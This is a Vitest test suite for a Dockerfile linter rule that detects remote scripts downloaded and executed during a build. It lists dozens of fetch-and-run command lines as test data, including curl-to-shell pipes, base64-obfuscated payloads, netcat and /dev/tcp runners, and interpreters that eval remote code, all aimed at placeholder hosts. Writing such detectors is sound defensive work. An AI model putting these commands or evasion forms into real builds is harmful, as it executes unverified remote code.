import { describe, expect, it } from 'vitest';
import { lintText } from '../../../../core/lint/engine.js';
import { curlPipeShell } from '../../../../core/lint/rules/dd110-curl-pipe-shell.js';
import { catches, findingsOf, passes } from '../../../helpers/rule-cases.js';

const F = 'FROM debian:12\n';

describe('DD110 curl piped into a shell', () => {
  catches('DD110', `${F}RUN curl -fsSL https://get.example.com | sh`, { line: 2 });
  catches('DD110', `${F}RUN wget -qO- https://x.example/install.sh | sudo -E bash -s -- --yes`);
  catches('DD110', `${F}RUN curl -sL https://x.example/i.sh | tee /tmp/i.sh | bash`);
  catches('DD110', `${F}RUN bash <(curl -s https://x.example/i.sh)`);
  catches('DD110', `${F}RUN sh -c "$(curl -fsSL https://x.example/i.sh)"`);
  catches('DD110', `${F}RUN eval "$(wget -O- https://x.example/env)"`);
  catches('DD110', `${F}RUN apt-get update && \\\n    curl https://x.example/i.sh | python3 -`, { line: 3 });
  catches('DD110', `${F}RUN sh -c 'curl https://x.example/i.sh | sh'`);
  catches('DD110', `${F}RUN ["/bin/bash", "-c", "curl -s https://x.example/i.sh | bash"]`);
  catches(
    'DD110',
    `# syntax=docker/dockerfile:1\n${F}RUN <<EOF\nset -e\ncurl -fsSL https://x.example/i.sh | sh\nEOF`,
    {
      line: 5,
    },
  );
  catches('DD110', `${F}ONBUILD RUN curl https://x.example/i.sh | sh`);
  passes(
    'DD110',
    `${F}RUN curl -fsSLo /tmp/i.sh https://x.example/i.sh && sha256sum -c i.sha256 && sh /tmp/i.sh`,
  );
  passes(
    'DD110',
    `${F}RUN curl -fsSL https://x.example/key.asc | gpg --dearmor -o /usr/share/keyrings/x.gpg`,
  );
  passes('DD110', `${F}RUN curl -fsSL https://x.example/a.tgz | tar -xz -C /opt`);
  passes('DD110', `${F}RUN echo "curl https://x | sh" > /README`);
  passes('DD110', `${F}RUN cat <<EOF > /etc/motd\ncurl https://x | sh\nEOF`);
});

describe('DD110 judges each instruction on its own', () => {
  const key = 'RUN curl -fsSL https://x.example/key.asc | apt-key add -';
  const run = 'RUN curl -fsSL https://x.example/i.sh | bash';
  it('reports only the RUN that pipes into bash when it comes second', () => {
    expect(findingsOf('DD110', `${F}${key}\n${run}`).map((f) => f.line)).toEqual([3]);
  });
  it('reports only the RUN that pipes into bash when it comes first', () => {
    expect(findingsOf('DD110', `${F}${run}\n${key}`).map((f) => f.line)).toEqual([2]);
  });
  it('does not join a pipeline of one RUN with a runner of another', () => {
    expect(findingsOf('DD110', `${F}RUN curl -s https://x.example/a | tee /a\nRUN echo hi | sh`)).toEqual([]);
  });
});

describe('DD110 sees through variables the builder resolves', () => {
  catches('DD110', `${F}ENV S=sh\nRUN curl -fsSL https://x.example/i.sh | $S`, { line: 3 });
  catches('DD110', `${F}ARG RUNNER=bash\nRUN curl -fsSL https://x.example/i.sh | \${RUNNER}`);
  catches('DD110', `${F}ENV C="curl -fsSL https://x.example/i.sh"\nRUN $C | sh`, { line: 3 });
  catches('DD110', `${F}RUN X="$(curl -fsSL https://x.example/i.sh)"; sh -c "$X"`);
  catches('DD110', `${F}RUN sh -c "$(curl -fsSL https://x.example/i.sh)"`);
  catches('DD110', `${F}ARG TOOL\nRUN curl -fsSL https://x.example/i.sh | $TOOL`);
  passes('DD110', `${F}ENV S=cat\nRUN curl -fsSL https://x.example/i.json | $S`);
  passes('DD110', `${F}ENV C="curl -fsSL https://x.example/i.json"\nRUN $C | jq .version`);
  passes('DD110', `${F}RUN X="$(curl -fsSL https://x.example/v)"; echo "$X"`);
});

describe('DD110 follows a download to a file and its run', () => {
  catches('DD110', `${F}RUN curl -fsSL -o /tmp/i.sh https://x.example/i.sh && sh /tmp/i.sh`, { line: 2 });
  catches('DD110', `${F}RUN curl -fsSLO https://x.example/install.sh && bash install.sh`);
  catches('DD110', `${F}WORKDIR /tmp\nRUN curl -O https://x.example/install.sh\nRUN sh /tmp/install.sh`, {
    line: 4,
  });
  catches('DD110', `${F}RUN wget https://x.example/install.sh && sh ./install.sh`);
  catches('DD110', `${F}RUN wget -q -O /tmp/i.sh https://x.example/i.sh; sh /tmp/i.sh`);
  catches('DD110', `${F}RUN wget -P /opt https://x.example/setup.sh && bash /opt/setup.sh`);
  catches('DD110', `${F}RUN curl -s https://x.example/i.sh > /tmp/x && sh /tmp/x`);
  catches('DD110', `${F}RUN curl -s https://x.example/env.sh > /tmp/env && . /tmp/env`);
  catches(
    'DD110',
    `${F}RUN curl -so /etc/profile.d/x.sh https://x.example/x.sh && source /etc/profile.d/x.sh`,
  );
  catches('DD110', `${F}RUN curl -so i.sh https://x.example/i.sh && sh < i.sh`);
  catches('DD110', `${F}RUN curl -so i.sh https://x.example/i.sh && bash -s -- --yes < i.sh`);
  catches('DD110', `${F}RUN curl -so i.sh https://x.example/i.sh && cat i.sh | sh`);
  catches('DD110', `${F}RUN curl -so i.sh https://x.example/i.sh && sh -c "$(cat i.sh)"`);
  catches('DD110', `${F}RUN curl -fsSLo /tmp/i https://x.example/i && chmod +x /tmp/i && /tmp/i --yes`);
  catches(
    'DD110',
    `${F}RUN cd /tmp && curl -fsSLO https://x.example/install && chmod +x install && ./install`,
  );
  catches('DD110', `${F}RUN curl -fsSLo get.py https://x.example/get.py && python3 get.py`);
  catches(
    'DD110',
    `${F}RUN curl -fsSLo /usr/local/bin/tool https://x.example/tool && chmod +x /usr/local/bin/tool && tool init`,
  );
  catches(
    'DD110',
    `${F}RUN curl -fsSLo /tmp/tool https://x.example/tool && install -m 0755 /tmp/tool /usr/local/bin/tool\nRUN tool init`,
  );
  catches('DD110', `${F}RUN curl -s https://x.example/i.sh | tee /tmp/i.sh >/dev/null && sh /tmp/i.sh`);
  catches('DD110', `${F}RUN git clone https://x.example/repo.git /src/repo && sh /src/repo/install.sh`);
  catches('DD110', `${F}RUN git clone --depth 1 -b main https://x.example/tools.git && ./tools/bin/setup`);
  catches('DD110', `${F}RUN git clone https://x.example/tools.git && cd tools && ./install.sh`);
  catches('DD110', `${F}ADD https://x.example/i.sh /i.sh\nRUN sh /i.sh`, { line: 3 });
  catches('DD110', `${F}ADD https://x.example/i.sh /opt/\nRUN bash /opt/i.sh`);
  catches('DD110', `${F}ADD https://x.example/repo.git#main /src\nRUN sh /src/install.sh`);
  catches(
    'DD110',
    `FROM debian:12 AS base\nRUN curl -so /i.sh https://x.example/i.sh\nFROM base\nRUN sh /i.sh`,
    {
      line: 4,
    },
  );
  catches('DD110', `${F}RUN curl -so /i.sh https://x.example/i.sh\nONBUILD RUN sh /i.sh`);
  catches(
    'DD110',
    `FROM debian:12 AS fetch\nRUN curl -so /out/i.sh https://x.example/i.sh\nFROM debian:12\nCOPY --from=fetch /out/i.sh /usr/local/bin/setup\nRUN sh /usr/local/bin/setup`,
    { line: 5 },
  );
  catches(
    'DD110',
    `FROM alpine AS src\nRUN git clone https://x.example/r.git /src\nFROM debian:12\nCOPY --from=src /src /opt/r\nRUN sh /opt/r/install.sh`,
  );
  passes(
    'DD110',
    `FROM debian:12 AS fetch\nRUN curl -so /out/i.sh https://x.example/i.sh && echo "$SHA  /out/i.sh" | sha256sum -c -\nFROM debian:12\nCOPY --from=fetch /out/i.sh /setup\nRUN sh /setup`,
  );

  catches(
    'DD110',
    `${F}RUN php -r "copy('https://getcomposer.org/installer', 'composer-setup.php');" && php composer-setup.php`,
  );
  passes(
    'DD110',
    `${F}RUN curl -fsSLo /tmp/i.sh https://x.example/i.sh && echo "$SHA  /tmp/i.sh" | sha256sum -c - && sh /tmp/i.sh`,
  );
  passes(
    'DD110',
    `${F}RUN curl -fsSLo i.sh https://x.example/i.sh\nRUN echo "0123abcd  i.sh" | sha256sum -c\nRUN sh i.sh`,
  );
  passes(
    'DD110',
    `${F}RUN curl -fsSLO https://x.example/i.sh -O https://x.example/i.sh.asc && gpg --verify i.sh.asc i.sh && sh i.sh`,
  );
  passes(
    'DD110',
    `${F}RUN curl -fsSLO https://x.example/i.sh && cosign verify-blob --bundle i.bundle i.sh && sh i.sh`,
  );
  passes('DD110', `${F}RUN curl -fsSLO https://x.example/i.sh && minisign -Vm i.sh -P "$KEY" && sh i.sh`);
  passes(
    'DD110',
    `${F}RUN curl -fsSLO https://x.example/i.sh && [ "$(sha256sum i.sh | cut -d' ' -f1)" = "$SHA" ] && sh i.sh`,
  );
  passes('DD110', `${F}ADD --checksum=sha256:0123 https://x.example/i.sh /i.sh\nRUN sh /i.sh`);
  passes(
    'DD110',
    `${F}RUN git clone https://x.example/repo.git /src && git -C /src checkout 0123456789abcdef0123456789abcdef01234567 && sh /src/install.sh`,
  );
  passes(
    'DD110',
    `${F}RUN curl -fsSL -o /tmp/tini.download https://x.example/tini && echo "$SHA256 */tmp/tini.download" | sha256sum -c - && install -m 0755 /tmp/tini.download /usr/local/bin/tini && /usr/local/bin/tini --version`,
  );
  catches(
    'DD110',
    `${F}RUN curl -fsSL -o /tmp/tini.download https://x.example/tini && install -m 0755 /tmp/tini.download /usr/local/bin/tini && /usr/local/bin/tini --version || /usr/local/bin/tini -version`,
  );
  catches('DD110', `${F}RUN curl -fsSL https://x.example/i.sh.gz | gunzip > /tmp/i.sh && sh /tmp/i.sh`);
  passes('DD110', `${F}RUN curl -fsSL https://x.example/a.tgz | tar -xz > /tmp/list && sh /tmp/list`);
  passes('DD110', `${F}RUN wget https://x.example/dist/node && node --version`);
  catches('DD110', `${F}RUN curl -fsSL https://x.example/i.sh | dd of=/tmp/i.sh && sh /tmp/i.sh`);
  catches(
    'DD110',
    `${F}RUN node -e "require('https').get('https://x.example/i.sh', r => r.pipe(require('fs').createWriteStream('/tmp/i.sh')))" && sh /tmp/i.sh`,
  );
  catches(
    'DD110',
    `${F}RUN perl -MLWP::Simple -e 'getstore("https://x.example/i.sh", "/tmp/i.sh")' && sh /tmp/i.sh`,
  );
  catches(
    'DD110',
    `${F}RUN git clone https://x.example/t.git /opt/t && cp /opt/t/bin/tool /usr/local/bin/ && tool --init`,
  );
  catches('DD110', `${F}RUN curl -fsSL https://x.example/i.ps1 | pwsh -Command -`);
  passes('DD110', `${F}RUN curl -fsSLo /tmp/data.json https://x.example/data.json && cat /tmp/data.json`);
  passes('DD110', `${F}RUN curl -fsSLO https://x.example/a.zip && unzip -l a.zip`);
  passes('DD110', `${F}RUN sh /tmp/i.sh && curl -fsSLo /tmp/i.sh https://x.example/i.sh`);
  passes('DD110', `${F}RUN cat <<EOF > /tmp/i.sh\necho hello\nEOF\nRUN sh /tmp/i.sh`);
  passes(
    'DD110',
    `${F}RUN curl -fsSLo /usr/local/bin/tool https://x.example/tool && chmod +x /usr/local/bin/tool`,
  );
  passes(
    'DD110',
    `${F}RUN php -r "copy('https://getcomposer.org/installer', 'composer-setup.php');" && php -r "if (hash_file('sha384', 'composer-setup.php') !== getenv('SIG')) { exit(1); }" && php composer-setup.php`,
  );
  passes('DD110', `${F}RUN curl -fsSLo /tmp/b.sh https://x.example/b.sh && sh /tmp/a.sh`);
});

describe('DD110 checks scripts the build writes or copies, then runs', () => {
  catches(
    'DD110',
    `# syntax=docker/dockerfile:1\n${F}COPY <<EOF /tmp/i.sh\ncurl -fsSL https://x.example/i.sh | sh\nEOF\nRUN sh /tmp/i.sh`,
    {
      line: 6,
    },
  );
  catches('DD110', `${F}RUN printf 'curl -s https://x.example/i.sh | sh\\n' > /tmp/i.sh && sh /tmp/i.sh`);
  catches(
    'DD110',
    `${F}RUN cat <<'EOF' > /tmp/i.sh && chmod +x /tmp/i.sh && /tmp/i.sh\nwget -qO- https://x.example/i.sh | bash\nEOF`,
  );
  passes(
    'DD110',
    `# syntax=docker/dockerfile:1\n${F}COPY <<EOF /tmp/i.sh\necho hello | tee /tmp/x\nEOF\nRUN sh /tmp/i.sh`,
  );
  passes(
    'DD110',
    `# syntax=docker/dockerfile:1\n${F}COPY <<EOF /tmp/i.sh\ncurl -fsSL https://x.example/i.sh | sh\nEOF`,
  );

  const lint = (text: string, files: Record<string, string>) =>
    lintText(text, 'Dockerfile', {
      rules: [curlPipeShell],
      contextFiles: new Map(Object.entries(files)),
    }).filter((f) => f.code === 'DD110');
  it('catches a context file copied in that downloads and runs, once it is run', () => {
    const found = lint(`${F}COPY setup.sh /usr/local/bin/\nRUN sh /usr/local/bin/setup.sh`, {
      'setup.sh': '#!/bin/sh\nset -e\nwget -qO- https://x.example/i.sh | sh\n',
    });
    expect(found.map((f) => f.line)).toEqual([3]);
    expect(found[0]?.message).toContain('/usr/local/bin/setup.sh');
    expect(found[0]?.message).toContain('its line 3');
  });
  it('passes a context file copied in that only reads the network', () => {
    expect(
      lint(`${F}COPY setup.sh /usr/local/bin/\nRUN sh /usr/local/bin/setup.sh`, {
        'setup.sh': '#!/bin/sh\ncurl -fsSL https://x.example/v.json | jq .\n',
      }),
    ).toEqual([]);
  });
});

describe('DD110 sees interpreters that fetch and run code', () => {
  catches(
    'DD110',
    `${F}RUN python3 -c "import urllib.request as u; exec(u.urlopen('https://x.example/i.py').read())"`,
  );
  catches('DD110', `${F}RUN python3 -c "import requests; exec(requests.get('https://x.example/i.py').text)"`);
  catches(
    'DD110',
    `${F}RUN python3 -c "import os,urllib.request as u; os.system(u.urlopen('https://x.example/i').read().decode())"`,
  );
  catches('DD110', `${F}RUN perl -MLWP::Simple -e 'eval get("https://x.example/i.pl")'`);
  catches(
    'DD110',
    `${F}RUN node -e "require('https').get('https://x.example/i.js', r => { let s=''; r.on('data', d => s += d); r.on('end', () => eval(s)); })"`,
  );
  catches(
    'DD110',
    `${F}RUN node -e "fetch('https://x.example/i.js').then(r => r.text()).then(t => new Function(t)())"`,
  );
  catches('DD110', `${F}RUN ruby -ropen-uri -e 'eval URI.open("https://x.example/i.rb").read'`);
  catches('DD110', `${F}RUN php -r "eval(file_get_contents('https://x.example/i.php'));"`);
  catches(
    'DD110',
    `${F}RUN python3 <<EOF\nimport urllib.request\nexec(urllib.request.urlopen("https://x.example/i.py").read())\nEOF`,
  );
  catches(
    'DD110',
    `# syntax=docker/dockerfile:1\n${F}RUN <<EOF python3\nimport urllib.request\nexec(urllib.request.urlopen("https://x.example/i.py").read())\nEOF`,
  );
  catches(
    'DD110',
    `${F}RUN python3 -c "import urllib.request as u; print(u.urlopen('https://x.example/i.sh').read().decode())" | sh`,
  );
  catches(
    'DD110',
    `${F}RUN python3 -c "import urllib.request as u; u.urlretrieve('https://x.example/i.sh', '/tmp/i.sh')" && sh /tmp/i.sh`,
  );
  catches(
    'DD110',
    `${F}RUN curl -s https://x.example/i.py | python3 -c "import sys; exec(sys.stdin.read())"`,
  );
  passes('DD110', `${F}RUN python3 -c 'import urllib.request'`);
  passes(
    'DD110',
    `${F}RUN python3 -c "import urllib.request as u; print(u.urlopen('https://x.example/v').read())"`,
  );
  passes(
    'DD110',
    `${F}RUN curl -s https://x.example/v.json | python3 -c "import json,sys; print(json.load(sys.stdin)['v'])"`,
  );
  passes('DD110', `${F}RUN node -e "console.log(eval('1+1'))"`);
  passes('DD110', `${F}RUN python3 -m pip install requests`);
  passes(
    'DD110',
    `${F}RUN python3 <<EOF\nimport urllib.request\nprint(urllib.request.urlopen("https://x.example/v").status)\nEOF`,
  );
});

describe('DD110 sees hidden and unusual runners', () => {
  catches('DD110', `${F}RUN echo Y3VybCBodHRwczovL3guZXhhbXBsZS9pLnNoIHwgc2gK | base64 -d | sh`);
  catches('DD110', `${F}RUN sh -c "$(echo Y3VybCBodHRwczovL3guZXhhbXBsZS9pLnNoIHwgc2gK | base64 --decode)"`);
  catches('DD110', `${F}RUN nc x.example 8080 | sh`);
  catches('DD110', `${F}RUN openssl s_client -quiet -connect x.example:443 | sh`);
  catches('DD110', `${F}RUN bash -c 'cat < /dev/tcp/x.example/80' | sh`);
  catches('DD110', `${F}RUN busybox wget -O- https://x.example/i.sh | busybox sh`);
  catches('DD110', `${F}RUN busybox sh -c "$(busybox wget -O- https://x.example/i.sh)"`);
  catches('DD110', `${F}RUN curl -s https://x.example/i.sh | sudo -E sh`);
  catches('DD110', `${F}RUN curl -s https://x.example/i.sh | env sh`);
  catches('DD110', `${F}RUN curl -s https://x.example/i.sh | xargs sh -c`);
  catches('DD110', `${F}RUN curl -s https://x.example/i.sh | tee /tmp/i.sh | sh`);
  catches('DD110', `${F}RUN curl -s https://x.example/i.sh | bash -s --`);
  catches('DD110', `${F}RUN curl -s https://x.example/i.sh.gz | gunzip | sh`);
  catches('DD110', `${F}RUN curl -s https://x.example/i.sh | bash -c 'source /dev/stdin'`);
  catches('DD110', `${F}RUN $(curl -s https://x.example/cmd)`);
  catches('DD110', `${F}RUN deno run -A https://x.example/i.ts`);
  passes('DD110', `${F}RUN curl -fsSL https://x.example/v.json | jq -r .version`);
  passes('DD110', `${F}RUN curl -fsSL https://x.example/SHA256SUMS | grep linux-amd64`);
  passes('DD110', `${F}RUN curl -fsSL https://x.example/a.tgz | sha256sum`);
  passes('DD110', `${F}RUN echo aGVsbG8K | base64 -d > /tmp/hello.txt`);
  passes('DD110', `${F}RUN curl -fsSL https://x.example/i.sh | sh -c 'cat > /tmp/i.sh'`);
  passes('DD110', `${F}RUN python3 /app/tool.py "$(curl -fsSL https://x.example/v)"`);
  passes('DD110', `${F}RUN nc -z db 5432 && echo up`);
});

describe('DD110 sees scripts behind wrappers, here-strings and printed substitutions', () => {
  catches('DD110', `${F}RUN sudo sh -c 'curl -fsSL https://x.example/i.sh | sh'`);
  catches('DD110', `${F}RUN env bash -c 'wget -qO- https://x.example/i.sh | bash'`);
  catches('DD110', `${F}RUN su root -c 'curl -fsSL https://x.example/i.sh | sh'`);
  catches('DD110', `${F}RUN runuser -u app -- sh -c 'curl -fsSL https://x.example/i.sh | sh'`);
  catches('DD110', `${F}RUN curl -fsSL https://x.example/i.sh | su -c sh`);
  catches(
    'DD110',
    `${F}RUN env bash -c 'curl -so /tmp/x https://x.example/i'\nRUN sudo -u app bash -c "sh /tmp/x"`,
    {
      line: 3,
    },
  );
  catches('DD110', `${F}RUN source /dev/stdin <<< "$(curl -fsSL https://x.example/i.sh)"`);
  catches('DD110', `${F}RUN echo "$(curl -fsSL https://x.example/i.sh)" | sh`);
  catches('DD110', `${F}RUN curl -fsSL https://x.example/i.sh | bash -c "$(cat)"`);
  catches('DD110', `${F}RUN pwsh -NoProfile -Command "iwr https://x.example/i.ps1 | iex"`);
  passes('DD110', `${F}RUN sudo sh -c 'curl -fsSL https://x.example/v.json > /etc/v.json'`);
  passes('DD110', `${F}RUN su app -c 'curl -fsSL https://x.example/v.json | jq .'`);
  passes('DD110', `${F}RUN echo "$(curl -fsSL https://x.example/v)" > /etc/version`);
  passes('DD110', `${F}RUN grep -q x <<< "$(curl -fsSL https://x.example/v)"`);
  passes('DD110', `${F}RUN pwsh -NoProfile -NonInteractive -Command "Write-Host hi"`);
});

describe('DD110 checks SHELL, start commands and ONBUILD', () => {
  catches(
    'DD110',
    `${F}SHELL ["/bin/bash", "-c", "curl -fsSL https://x.example/p.sh | bash; eval \\"$0\\""]\nRUN true`,
    {
      line: 2,
    },
  );
  catches(
    'DD110',
    `${F}RUN curl -so /x.sh https://x.example/x.sh && chmod +x /x.sh\nSHELL ["/x.sh", "-c"]\nRUN true`,
    {
      line: 3,
    },
  );
  catches('DD110', `${F}CMD curl -fsSL https://x.example/start.sh | sh`, { line: 2 });
  catches('DD110', `${F}ENTRYPOINT ["/bin/sh", "-c", "curl -fsSL https://x.example/start.sh | sh"]`, {
    line: 2,
  });
  catches('DD110', `${F}HEALTHCHECK CMD curl -fsSL https://x.example/check.sh | sh`, { line: 2 });
  catches('DD110', `${F}ENTRYPOINT ["/bin/sh", "-c"]\nCMD ["curl -fsSL https://x.example/start.sh | sh"]`, {
    line: 3,
  });
  catches(
    'DD110',
    `${F}ENV P=https://x.example/p.sh\nSHELL ["/bin/sh", "-c", "curl -s $P | sh; eval \\"$1\\"", "sh"]\nRUN true`,
    {
      line: 3,
    },
  );

  catches('DD110', `${F}ONBUILD RUN wget -qO- https://x.example/i.sh | bash`, { line: 2 });
  passes('DD110', `${F}HEALTHCHECK CMD curl -fsS http://localhost:8080/health | grep -q ok || exit 1`);
  passes('DD110', `${F}CMD ["sh", "-c", "curl -fsS http://localhost/ready && exec app"]`);
  passes(
    'DD110',
    `${F}SHELL ["/bin/bash", "-o", "pipefail", "-c"]\nRUN curl -fsSL https://x.example/v.json | jq .`,
  );

  it('says when the code runs', () => {
    const msg = (text: string) => findingsOf('DD110', text)[0]?.message ?? '';
    expect(msg(`${F}CMD curl -fsSL https://x.example/s.sh | sh`)).toContain('when the container starts');
    expect(msg(`${F}ONBUILD RUN curl -fsSL https://x.example/s.sh | sh`)).toContain(
      'in every build FROM this image',
    );
    expect(msg(`${F}SHELL ["/bin/sh", "-c", "curl -s https://x.example/p | sh; $0"]`)).toContain('SHELL');
  });
});

describe('DD110 messages say what downloads and what runs it', () => {
  it('names the fetch and the runner of a pipe', () => {
    expect(findingsOf('DD110', `${F}RUN wget -qO- https://x.example/i.sh | sh`)[0]?.message).toBe(
      'Remote script piped into a shell: wget https://x.example/i.sh output is piped into sh; download it to a file, verify its checksum or signature, then run it',
    );
  });
  it('names the file and the line of a download in another RUN', () => {
    const [f] = findingsOf(
      'DD110',
      `${F}RUN curl -fsSLo /tmp/i.sh https://x.example/i.sh\nRUN bash /tmp/i.sh`,
    );
    expect(f?.line).toBe(3);
    expect(f?.message).toContain('bash runs /tmp/i.sh, downloaded by curl https://x.example/i.sh at line 2');
  });
  it('names the clone a run file comes from', () => {
    const [f] = findingsOf('DD110', `${F}RUN git clone https://x.example/r.git /r && sh /r/install.sh`);
    expect(f?.message).toContain('sh runs /r/install.sh, downloaded by git clone https://x.example/r.git');
  });
  it('reports one run of a file per line', () => {
    const text = `${F}RUN curl -so /usr/local/bin/t https://x.example/t && chmod +x /usr/local/bin/t && /usr/local/bin/t -v || /usr/local/bin/t --version`;
    expect(findingsOf('DD110', text)).toHaveLength(1);
  });
  it('reports a pipe once however many runners follow', () => {
    expect(findingsOf('DD110', `${F}RUN curl -s https://x.example/i | tee /a | sh | bash`)).toHaveLength(1);
  });
});

describe('DD110 runners found in the attack review after issue 10', () => {
  const U = 'https://get.example.com/i.sh';
  catches('DD110', `FROM debian:12\nRUN curl -fsSL ${U} | bash /dev/fd/0`);
  catches('DD110', `FROM debian:12\nRUN curl -fsSL ${U} | su root -s /bin/sh`);
  catches('DD110', `FROM debian:12\nRUN curl -fsSL ${U} | su`);
  catches('DD110', `FROM debian:12\nRUN curl -fsSL ${U} | setsid sh`);
  catches('DD110', `FROM debian:12\nRUN curl -fsSL ${U} | unshare -r sh`);
  catches('DD110', `FROM debian:12\nRUN curl -fsSL ${U} | /usr/bin/env -S sh`);
  catches('DD110', `FROM debian:12\nRUN curl -fsSL ${U} | env -S 'bash -x'`);
  catches('DD110', `FROM debian:12\nRUN curl -fsSL ${U} | awk '{system($0)}'`);
  catches('DD110', `FROM debian:12\nRUN curl -fsSL ${U} | awk '{print | "sh"}'`);
  catches('DD110', `FROM debian:12\nRUN curl -fsSL ${U} | sed -n e`);
  // Look-alikes: a syntax check runs nothing; su with -c runs its own command; awk and sed that only print.
  passes('DD110', `FROM debian:12\nRUN curl -fsSLo /tmp/i.sh ${U} && bash -n /tmp/i.sh`);
  passes('DD110', `FROM debian:12\nRUN curl -fsSL ${U} | sh -o noexec`);
  passes('DD110', `FROM debian:12\nRUN curl -fsSL ${U} | su app -c 'wc -l'`);
  passes('DD110', `FROM debian:12\nRUN curl -fsSL ${U} | awk '{print $1}'`);
  passes('DD110', `FROM debian:12\nRUN curl -fsSL ${U} | sed -n 's/a/b/p'`);
});
